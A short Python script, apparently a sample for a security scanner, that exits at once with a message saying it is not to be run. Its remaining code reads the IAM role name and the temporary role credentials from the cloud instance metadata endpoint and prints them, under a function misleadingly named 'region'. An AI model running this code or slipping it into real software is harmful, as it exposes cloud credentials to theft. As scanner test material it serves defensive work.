raise SystemExit("an example for the scanner, not to be run")

import urllib.request

BASE = "http://169.254.169.254/latest/meta-data/"


def region():
    role = urllib.request.urlopen(BASE + "iam/security-credentials/", timeout=2).read().decode()
    return urllib.request.urlopen(BASE + "iam/security-credentials/" + role, timeout=2).read()


print(region())
